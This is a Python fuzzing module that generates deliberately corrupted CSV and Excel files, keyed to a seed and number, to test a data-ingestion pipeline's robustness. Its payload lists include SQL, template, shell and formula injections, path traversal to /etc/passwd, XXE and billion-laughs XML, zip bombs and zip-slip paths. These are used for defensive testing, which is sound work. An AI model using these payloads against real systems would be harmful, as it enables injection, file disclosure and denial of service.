"""Spoil landing files in every way that people, programs and enemies do: each input is made from one number.

The same seed and number make the same input, so that whatever breaks can be looked at again.
"""

from __future__ import annotations

import csv
import io
import os
import random
import socket
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import xlsxwriter

from flows.ingest.define import Column, Dataset, Landing
from flows.ingest.unpivot_survey import ANSWER_COLUMNS

MARK = "Zyxwmark"
"""Stands in values of every input, and must stand in nothing that Parity says."""

NASTY = (
    "'); drop table raw.loads; --",
    "'; attach 'stolen.duckdb' as s; --",
    "x' or '1'='1",
    "read_text('/etc/passwd')",
    "select * from read_csv('/etc/passwd')",
    "{{ 1 / 0 }}",
    "{% set x = run_query('drop schema raw cascade') %}",
    "{{ env_var('PARITY_PSEUDONYM_SECRET') }}",
    "$(touch stolen)",
    "`touch stolen`",
    "; touch stolen #",
    "| touch stolen",
    "../../../etc/passwd",
    "..\\..\\stolen",
    "file:///etc/passwd",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.test?x="&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "a\nb",
    "a\r\nb",
    "a\rb",
    "line\u2028separator\u0085",
    'a "quoted" word',
    '"',
    '""',
    "'",
    "\\",
    "\\N",
    "NULL",
    "null",
    "None",
    "nan",
    "NaN",
    "inf",
    "infinity",
    "-infinity",
    "epoch",
    "today",
    "now()",
    "true",
    "0",
    "-0",
    "1e999",
    "1e-999",
    "99999999999999999999999999",
    "0x1F",
    "1_000",
    "1,2,3",
    "£1,234.50",
    "٣",
    "½",
    "1.0.0",
    "1e400000",
    "31/02/2025",
    "00/00/0000",
    "2025-13-45",
    "29-FEB-2023",
    "99999",
    "-1",
    "12345-01-01",
    "0000-00-00",
    "31/12/9999",
    "2025-03-31T00:00:00Z",
    "\u202eevil\u202c",
    "\u200b",
    "\ufeff",
    "\u00a0",
    "e\u0301" * 50,
    "\U0001f469\u200d\U0001f692",
    "\x1b[2J\x1b]0;x\x07",
    "\x7f\x01\x02",
    "%s%s%n",
    "%(x)s",
    "{0}",
    "{__class__}",
    "#N/A",
    "#REF!",
    "-",
    "*",
    "Grand Total",
    "a" * 5000,
    "x" * 40_000,
)
NAMES = (
    "x'); drop table raw.loads; --.csv",
    "$(touch stolen).csv",
    "`touch stolen`.csv",
    "; touch stolen.csv",
    "..csv",
    "...xlsx",
    "-rf.csv",
    "--help.csv",
    " .csv",
    "a\nb.csv",
    'a"b.csv',
    "a'b.csv",
    "a\\..\\b.csv",
    "\x1b[2J.csv",
    "\u202evsc.exe.csv",
    "{{ 1 }}.csv",
    "%s.csv",
    "*.csv",
    "?.csv",
    "~.csv",
    "nul.csv",
    "a" * 240 + ".csv",
    "café ☃.csv",
    "no_ending",
    ".csv",
    "{pattern}.xlsm",
    "{pattern}.xls",
    "{pattern}.ods",
    "{pattern}.csv.exe",
    "{pattern}.csv ",
    "{pattern}_v0.csv",
    "{pattern}_v99999.csv",
    "{pattern}_V2.CSV",
    "{pattern} (1).csv",
    "{pattern}_v2.csv",
    "{pattern}.tmp",
    "~${pattern}.xlsx",
    "{upper}.CSV",
)
NO_DATES = ("2025-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "2099-03-31", "1999-12-31", "２０２５-03-31")
ENCODINGS = ("cp1252", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp500", "shift_jis")
OTHER_BYTES = (
    b"",
    b"\xef\xbb\xbf",
    b"\x00" * 4096,
    b"PK\x03\x04",
    b"PK\x05\x06" + b"\0" * 18,
    b"%PDF-1.7\n",
    b"<html><body>Sign in</body></html>",
    b'{"error": "not authorised"}',
    b"\x1f\x8b\x08\0\0\0\0\0",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    b"\n" * 3000,
    b'"' * 999,
    b",\n" * 2000,
    b"\xff\xfe",
    b"\xff" * 100,
)


@dataclass
class Input:
    """One spoilt input: where it was dropped, what was done to it, and how many rows it has where that is certain."""

    number: int
    path: Path
    what: list[str] = field(default_factory=list)
    rows: int | None = None


@dataclass
class Table:
    """A landing file before it is written: its dataset, headings, rows of text, and how it will be named."""

    dataset: Dataset
    headings: list[str]
    rows: list[list[str]]
    stem: str
    columns: list[Column]
    what: list[str] = field(default_factory=list)
    whole: bool = True
    """Whether it is still certain how many rows a reader must find."""


def spoil(root: Path, landing: Landing, seed: int, number: int) -> Input:
    """Write input `number` of `seed` below a landing folder."""
    chance = random.Random(f"{seed}/{number}")
    table = _table(landing, chance, number)
    folder = root / table.dataset.folder
    if chance.random() < 0.06:
        return _no_file(folder, table, chance, number)
    for _ in range(chance.choice((0, 1, 1, 2, 3))):
        _in_the_table(table, chance)
    as_workbook = table.dataset.format == "survey_workbook" or chance.random() < 0.35
    content = _workbook(table, chance) if as_workbook else _csv(table, chance)
    path = folder / f"{table.stem}.{'xlsx' if as_workbook else 'csv'}"
    if chance.random() < 0.12:
        path = _another_name(path, table, chance)
    if chance.random() < 0.03:
        path = path.with_suffix(".csv" if as_workbook else ".xlsx")
        _did(table, "another ending")
    path.parent.mkdir(parents=True, exist_ok=True)
    if not os.path.lexists(path):
        path.write_bytes(content)
    return Input(number, path, table.what, len(table.rows) if table.whole else None)


def _table(landing: Landing, chance: random.Random, number: int) -> Table:
    """An ordinary file of one dataset, of a month that the number tells."""
    dataset = chance.choice(landing.datasets)
    months = number % 90
    date = f"{2015 + months // 12}-{months % 12 + 1:02d}-28"
    year = 2015 + number % 10
    stem = dataset.file_name_pattern.format(date=date, year=year, yy=f"{year % 100:02d}")
    columns = [column for column in dataset.columns if column.is_required or chance.random() < 0.8]
    if dataset.format == "survey_workbook":
        columns = [column for column in columns if column.name not in ANSWER_COLUMNS]
    rows = [[_value(column, chance, line) for column in columns] for line in range(chance.choice((1, 2, 5, 12, 40)))]
    return Table(dataset, [column.heading for column in columns], rows, stem, columns)


def _value(column: Column, chance: random.Random, line: int) -> str:
    kind = column.value_type.removeprefix("suppressible_")
    if kind == "text" and column.name == "employer":
        return "XPT"
    low = max(0, int(float(column.minimum))) if column.minimum and "-" not in column.minimum[1:] else 0
    written = {
        "text": chance.choice(("North", "Paramedic", "A White - British", MARK, f"{MARK} Zoë O'Neil", "")),
        "date": f"{chance.randint(1, 28):02d}/{chance.randint(1, 12):02d}/{chance.randint(1960, 2024)}",
        "decimal": f"{low + chance.random():.2f}",
        "integer": str(low + chance.randint(1, 3)),
        "yes_no": chance.choice(("Y", "N")),
        "employee_number": str(20000000 + line),
        "assignment_number": str(20000000 + line),
    }[kind]
    return written or ("x" if column.is_value_required else "")


def _did(table: Table, what: str) -> None:
    table.what.append(what)
    table.whole = False


# What people do to a table before it is a file.


def _in_the_table(table: Table, chance: random.Random) -> None:
    change = chance.choice((_nasty_values, _nasty_values, _nasty_values, *TABLE_CHANGES))
    change(table, chance)


def _nasty_values(table: Table, chance: random.Random) -> None:
    """Values of any kind in any cell: every row is still one row."""
    table.what.append("nasty values")
    typed = [place for place, column in enumerate(table.columns) if column.value_type != "text"]
    for _ in range(chance.randint(1, 12)):
        row = chance.choice(table.rows)
        place = chance.choice(typed) if typed and chance.random() < 0.5 else chance.randrange(len(table.headings))
        row[min(place, len(row) - 1)] = chance.choice(NASTY)
    table.whole = False if any("total" in "".join(row).casefold() for row in table.rows) else table.whole


def _another_trust(table: Table, chance: random.Random) -> None:
    place = table.headings.index("Employer") if "Employer" in table.headings else -1
    row = chance.choice(table.rows)
    if 0 <= place < len(row):
        row[place] = "RXX"
    _did(table, "another trust")


def _heading_lost(table: Table, chance: random.Random) -> None:
    table.headings[chance.randrange(len(table.headings))] = chance.choice(("", "Surname", "=1+1", "\n", MARK.lower()))
    _did(table, "a heading lost")


def _heading_twice(table: Table, chance: random.Random) -> None:
    table.headings.append(chance.choice(table.headings))
    for row in table.rows:
        row.append("x")
    _did(table, "a heading twice")


def _headings_again(table: Table, chance: random.Random) -> None:
    table.rows.insert(chance.randint(0, len(table.rows)), list(table.headings))
    _did(table, "the headings again")


def _ragged(table: Table, chance: random.Random) -> None:
    row = chance.choice(table.rows)
    row.append("more") if chance.random() < 0.5 else row.pop()
    _did(table, "a ragged row")


def _wide(table: Table, chance: random.Random) -> None:
    more = chance.choice((50, 1900, 5000, 60_000))
    table.headings += [f"extra {one}" for one in range(more)]
    table.rows[:] = [[*row, *["x"] * more] for row in table.rows[:2]]
    _did(table, f"{more} columns more")


def _title_and_totals(table: Table, chance: random.Random) -> None:
    width = len(table.headings)
    table.rows.append(["Grand Total", *["9"] * (width - 1)])
    table.rows.insert(0, [""] * width)
    _did(table, "blank and totals rows")


def _many_rows(table: Table, chance: random.Random) -> None:
    count = min(2500, 1_000_000 // len(table.headings))
    table.rows[:] = [list(row) for row in table.rows for _ in range(max(1, count // len(table.rows)))]
    table.what.append("many rows")


def _no_rows(table: Table, chance: random.Random) -> None:
    table.rows.clear()
    table.rows.append([""] * len(table.headings))
    _did(table, "no rows")


TABLE_CHANGES: Sequence[Callable[[Table, random.Random], None]] = (
    _another_trust,
    _heading_lost,
    _heading_twice,
    _headings_again,
    _ragged,
    _wide,
    _title_and_totals,
    _many_rows,
    _no_rows,
)


# What programs do to a file of text.


def _csv(table: Table, chance: random.Random) -> bytes:
    out = io.StringIO()
    separator = "," if chance.random() < 0.85 else chance.choice(";\t|~:^")
    ends = "\r\n" if chance.random() < 0.8 else chance.choice(("\n", "\r", "\n\n", "\n\r", "\u2028"))
    if separator != "," or ends in ("\n\n", "\n\r", "\u2028", "\r"):
        _did(table, f"separator {separator!r}, line ends {ends!r}")
    quoting: Any = chance.choice((csv.QUOTE_MINIMAL, csv.QUOTE_MINIMAL, csv.QUOTE_ALL))
    writer = csv.writer(out, delimiter=separator, lineterminator=ends, quoting=quoting)
    writer.writerows([table.headings, *table.rows])
    encoding = "utf-8" if chance.random() < 0.8 else chance.choice(ENCODINGS)
    content = out.getvalue().encode(encoding, "replace")
    if encoding != "utf-8":
        _did(table, encoding)
    for _ in range(chance.choice((0, 0, 0, 0, 1, 1, 2, 4))):
        content = _in_the_bytes(content, table, chance)
    if any("\n" in cell or "\r" in cell for row in [table.headings, *table.rows] for cell in row):
        table.whole = False
    return content


def _in_the_bytes(content: bytes, table: Table, chance: random.Random) -> bytes:
    at, to = sorted(chance.randint(0, len(content)) for _ in range(2))
    kinds: dict[str, Callable[[], bytes]] = {
        "truncated": lambda: content[:at],
        "beginning lost": lambda: content[at:],
        "a piece lost": lambda: content[:at] + content[to:],
        "a piece twice": lambda: content[:to] + content[at:],
        "NULs": lambda: content[:at] + b"\0" * chance.choice((1, 2, 4096)) + content[at:],
        "one byte": lambda: content[:at] + bytes([chance.randrange(256)]) + content[at + 1 :],
        "some bytes": lambda: bytes(one if chance.random() < 0.99 else chance.randrange(256) for one in content),
        "a quotation mark": lambda: content[:at] + b'"' + content[at:],
        "a line end": lambda: content[:at] + b"\n" + content[at:],
        "Windows-1252 among UTF-8": lambda: content[:at] + "Zoë".encode("cp1252") + content[at:],
        "UTF-8": lambda: content[:at] + "Zoë".encode() + content[at:],
        "a long field": lambda: content[:at] + b"x" * chance.choice((10_000, 140_000, 1_000_000)) + content[at:],
        "quoted lines without end": lambda: content[:at] + b'"a\n",' * chance.choice((10, 40_000)) + content[at:],
        "two marks": lambda: b"\xef\xbb\xbf" * 2 + content,
        "no text at all": lambda: chance.choice(OTHER_BYTES),
        "only noise": lambda: chance.randbytes(chance.choice((10, 3000))),
    }
    what = chance.choice(list(kinds))
    _did(table, what)
    return kinds[what]()


# What programs and enemies do to a workbook.


def _workbook(table: Table, chance: random.Random) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": chance.random() < 0.3})
    names = ["List", *(["Notes"] if chance.random() < 0.2 else []), *(["List 2"] if chance.random() < 0.05 else [])]
    for name in names:
        sheet = book.add_worksheet(name)
        if name == "Notes":
            sheet.write(0, 0, MARK)
            continue
        for y, row in enumerate(_sheet(table)):
            for x, cell in enumerate(row[:16_000]):
                _cell(sheet, y, x, cell, chance)
    book.close()
    table.whole = False
    content = out.getvalue()
    if chance.random() < 0.6:
        content = _in_the_archive(content, table, chance)
    if chance.random() < 0.08:
        content = _in_the_bytes(content, table, chance)
    return content


def _sheet(table: Table) -> list[list[str]]:
    """The rows of a sheet; the survey's has its questions above the headings, and answers right of them."""
    if table.dataset.format != "survey_workbook":
        return [table.headings, *table.rows]
    width = len(table.headings)
    above = [*[""] * width, "Q1", "", "", "Q2", ""]
    answers = ["Yes", "No", "Base", "Often", "Base"]
    return [above, [*table.headings, *answers], *([*row, "41.5", "-", "123", "9", "x"] for row in table.rows)]


def _cell(sheet: Any, y: int, x: int, cell: str, chance: random.Random) -> None:
    if chance.random() < 0.01:
        sheet.write_formula(y, x, "=1/0", None, chance.choice(("", "#DIV/0!", 5, "text", True)))
    elif cell.isdecimal() and cell.isascii() and len(cell) < 12 and chance.random() < 0.5:
        sheet.write_number(y, x, float(cell))
    else:
        sheet.write(y, x, cell[:32_767].replace("\ud800", ""))


def _in_the_archive(content: bytes, table: Table, chance: random.Random) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    strings = "xl/sharedStrings.xml"
    what = chance.choice(list(ARCHIVE_CHANGES))
    ARCHIVE_CHANGES[what](parts, chance, sheet, strings)
    _did(table, what)
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if chance.random() < 0.9 else chance.choice((zipfile.ZIP_STORED, zipfile.ZIP_BZIP2))
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


Parts = dict[str, bytes]


def _replace(name: str, old: bytes, new: bytes) -> Callable[[Parts, random.Random, str, str], None]:
    def change(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
        part = {"sheet": sheet, "strings": strings}.get(name, name)
        if part in parts:
            parts[part] = parts[part].replace(old, new, chance.choice((1, 3, -1)))

    return change


def _noise(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
    name = chance.choice([*parts, sheet, strings])
    data = bytearray(parts.get(name, b""))
    for _ in range(chance.randint(1, 6) if data else 0):
        data[chance.randrange(len(data))] = chance.choice(b'<>/="0129AZ \0&\xff')
    parts[name] = bytes(data)


def _cut(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
    name = chance.choice([*parts])
    parts[name] = parts[name][: chance.randrange(len(parts[name]) + 1)]


def _lose(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
    del parts[chance.choice([*parts])]


def _add(name: str, data: bytes) -> Callable[[Parts, random.Random, str, str], None]:
    def change(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
        parts[name] = data

    return change


def _entities(parts: Parts, chance: random.Random, sheet: str, strings: str) -> None:
    laughs = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
        b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 20) for i in range(9)
    )
    outside = b"<!DOCTYPE x [<!ENTITY j SYSTEM 'file:///etc/passwd'>]>"
    head = chance.choice((laughs + b"]>", outside))
    name = chance.choice((sheet, strings, "xl/workbook.xml"))
    data = parts.get(name, b"")
    after = data.find(b"?>") + 2
    parts[name] = data[:after] + head + data[after:].replace(b"<t>", b"<t>&j;", 2)


ARCHIVE_CHANGES: dict[str, Callable[[Parts, random.Random, str, str], None]] = {
    "noise in a part": _noise,
    "more noise in a part": _noise,
    "a part cut off": _cut,
    "a part lost": _lose,
    "entities": _entities,
    "macros": _add("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Shell(calc)" * 50),
    "external link": _add(
        "xl/externalLinks/_rels/externalLink1.xml.rels", b'<Relationships><Relationship Target="file:///etc/passwd"/>'
    ),
    "a path out of the archive": _add("../../../stolen", b"x"),
    "an absolute path": _add("/stolen", b"x"),
    "a bomb": _add("xl/media/image1.png", b"\0" * 30_000_000),
    "a stray cell": _replace(
        "sheet", b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    ),
    "a row beyond": _replace("sheet", b'<row r="2"', b'<row r="4294967297"'),
    "a row of many digits": _replace("sheet", b'<row r="2"', b'<row r="' + b"9" * 6000 + b'"'),
    "a column beyond": _replace("sheet", b'r="B2"', b'r="ZZZZZZZZ2"'),
    "places in disorder": _replace("sheet", b'r="A3"', b'r="A1"'),
    "no places": _replace("sheet", b' r="', b' q="'),
    "a text that is not there": _replace("sheet", b't="s"><v>', b't="s"><v>9'),
    "a negative text": _replace("sheet", b't="s"><v>', b't="s"><v>-'),
    "other kinds of cell": _replace("sheet", b't="s"', b't="e"'),
    "booleans": _replace("sheet", b't="s"', b't="b"'),
    "dates": _replace("sheet", b't="s"', b't="d"'),
    "texts as numbers": _replace("sheet", b' t="s"', b""),
    "numbers that are none": _replace("sheet", b"<v>2", b"<v>1e999"),
    "no sheet in the list": _replace("xl/workbook.xml", b"<sheet ", b"<sheeeet "),
    "a sheet named oddly": _replace("xl/workbook.xml", b'name="List"', b'name="&#10;&quot;\'); drop table x; --"'),
    "a sheet that is the workbook": _replace("xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"workbook.xml"),
    "1904 dates": _replace("xl/workbook.xml", b"<workbookPr", b'<workbookPr date1904="1"'),
    "no formula computed": _replace("sheet", b"</f><v>#DIV/0!</v>", b"</f>"),
    "a workbook in a workbook": _add("xl/embeddings/book.xlsx", b"PK\x03\x04" * 1000),
}


# What is no file at all, and other names.


def _no_file(folder: Path, table: Table, chance: random.Random, number: int) -> Input:
    path = folder / f"{table.stem}.{chance.choice(('csv', 'xlsx'))}"
    folder.mkdir(parents=True, exist_ok=True)
    kinds: dict[str, Callable[[], Any]] = {
        "a folder": path.mkdir,
        "a folder with files": lambda: (path / "deeper" / "still").mkdir(parents=True),
        "a link to a password file": lambda: path.symlink_to("/etc/passwd"),
        "a link to nothing": lambda: path.symlink_to("nothing"),
        "a link to itself": lambda: path.symlink_to(path.name),
        "a link to a folder": lambda: path.symlink_to("/"),
        "a pipe": lambda: os.mkfifo(path),
        "a socket": lambda: _socket(path),
    }
    what = chance.choice(list(kinds))
    if not os.path.lexists(path):
        kinds[what]()
    return Input(number, path, [what])


def _socket(path: Path) -> None:
    here = Path.cwd()
    with socket.socket(socket.AF_UNIX) as listener:
        try:
            os.chdir(path.parent)
            listener.bind(path.name)
        finally:
            os.chdir(here)


def _another_name(path: Path, table: Table, chance: random.Random) -> Path:
    _did(table, "another name")
    if chance.random() < 0.3:
        date = chance.choice(NO_DATES)
        year = chance.choice(("0000", "9999", "1066", "２０２４"))
        pattern = table.dataset.file_name_pattern
        return path.with_name(pattern.format(date=date, year=year, yy="99") + path.suffix)
    if chance.random() < 0.15:
        return path.parent / "deeper" / path.name
    if chance.random() < 0.1:
        return path.parent.parent / path.name
    name = chance.choice(NAMES)
    return path.with_name(
        name.format(pattern=table.stem, upper=table.stem.upper()) if "{p" in name or "{u" in name else name
    )
